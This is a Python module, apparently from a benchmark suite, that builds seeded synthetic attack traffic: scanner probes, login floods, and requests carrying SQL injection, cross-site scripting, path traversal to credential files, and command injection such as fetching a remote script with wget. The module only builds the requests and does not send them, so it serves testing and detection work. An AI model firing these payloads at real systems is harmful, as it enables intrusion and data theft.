"""Attackers: hostile requests, made up from a seed: injected payloads, scans for what is not there, floods."""

from __future__ import annotations

import random
from urllib.parse import quote

from benchmarks.visitors import Ask

TABLES = ("users", "accounts", "orders", "customers", "admin")
FIELDS = ("id", "q", "name", "page", "item", "file", "sort", "redirect")
COMMANDS = ("id", "cat /etc/passwd", "wget http://198.51.100.{n}/x.sh", "uname -a", "ping -c 4 198.51.100.{n}")
FILES = ("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "var/log/auth.log")
PROBES = (
    "wp-login.php", "backup-{n}.zip", "old/{n}/config.php", "admin{n}", "cgi-bin/test-{n}.cgi", "api/v{n}/debug",
)  # fmt: skip
TOOLS = ("scanner/1.{n} (+https://scanner.example)", "Mozilla/5.0 (compatible; probe {n})", "python-requests/2.31")


class Attackers:
    """A seeded source of hostile requests."""

    def __init__(self, seed: int) -> None:
        self.chance = random.Random(seed)

    def ask(self) -> Ask:
        """Return one hostile request: a payload, a probe, or one more of a flood."""
        kind = self.chance.random()
        tool = self.fill(self.chance.choice(TOOLS))
        if kind < 0.4:
            return {"agent": tool, **self._carried(self.payload()), "status": self.chance.choice((200, 403, 500))}
        if kind < 0.7:
            return {"agent": tool, "path": "/" + self.fill(self.chance.choice(PROBES)), "status": 404}
        return {"agent": "Go-http-client/1.1", "path": f"/login?try={self.chance.randint(1, 10**6)}", "status": 401}

    def fill(self, text: str) -> str:
        """Put a number where one is missing."""
        return text.replace("{n}", str(self.chance.randint(1, 250)))

    def payload(self) -> str:
        """Return what should break something."""
        return self.chance.choice((self.sql, self.script, self.walk, self.command))()

    def sql(self) -> str:
        """Return a piece of SQL."""
        n, table = self.chance.randint(1, 9999), self.chance.choice(TABLES)
        columns = ",".join(["null"] * self.chance.randint(1, 8))
        return self._cased(
            self.chance.choice(
                (
                    f"{n}' or '{n}'='{n}",
                    f"{n} union all select {columns},password from {table}-- -",
                    f"{n}') and sleep({n % 9 + 1})#",
                    f"{n}; drop table {table};--",
                    f"-{n}' union/**/select/**/table_name from information_schema.tables--",
                )
            )
        )

    def script(self) -> str:
        """Return a piece of a page."""
        n = self.chance.randint(1, 9999)
        return self._cased(
            self.chance.choice(
                (
                    f"<script>alert({n})</script>",
                    f'"><img src=x onerror=alert({n})>',
                    f"<svg/onload=confirm({n})>",
                    f"javascript:alert(document.cookie+{n})",
                )
            )
        )

    def walk(self) -> str:
        """Return a way out of a folder."""
        step = self.chance.choice(("../", "..%2f", "%2e%2e/", "....//"))
        return step * self.chance.randint(3, 8) + self.chance.choice(FILES)

    def command(self) -> str:
        """Return a command behind something else."""
        before, after = self.chance.choice(((";", ""), ("|", ""), ("$(", ")"), ("`", "`"), ("&&", "#")))
        return f"{self.chance.randint(1, 99)}{before}{self.fill(self.chance.choice(COMMANDS))}{after}"

    def _cased(self, text: str) -> str:
        if self.chance.random() < 0.5:
            return text
        return "".join(self.chance.choice((letter.upper(), letter.lower())) for letter in text)

    def _carried(self, payload: str) -> Ask:
        """Return a request that carries a payload: in its query, its body, or its agent."""
        where, field = self.chance.random(), self.chance.choice(FIELDS)
        encoded = quote(payload) if self.chance.random() < 0.7 else quote(quote(payload))
        if where < 0.7:
            return {"path": f"/products?{field}={encoded}&page={self.chance.randint(1, 9)}"}
        if where < 0.9:
            return {"method": "POST", "path": "/contact", "body": f"{field}={encoded}&submit=1"}
        return {"path": "/", "agent": payload}
